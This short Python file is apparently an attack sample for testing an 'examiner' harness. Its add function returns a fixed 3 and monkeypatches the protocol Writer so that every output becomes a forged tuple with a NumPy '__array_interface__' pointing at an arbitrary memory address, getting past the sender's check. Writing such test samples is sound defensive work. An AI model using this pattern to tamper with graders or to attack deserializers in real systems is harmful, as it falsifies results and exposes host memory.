# Attack: forge a tuple with the field that NumPy asks for, past the sender's own check.
from examiner.protocol import Writer


def add(a, b):
    Writer.write = lambda self, value, depth=0: {
        "t": "tuple",
        "names": ["__array_interface__"],
        "v": [{"t": "dict", "v": [["data", {"t": "tuple", "v": [10**14, False]}], ["version", 3]]}],
    }
    return 3
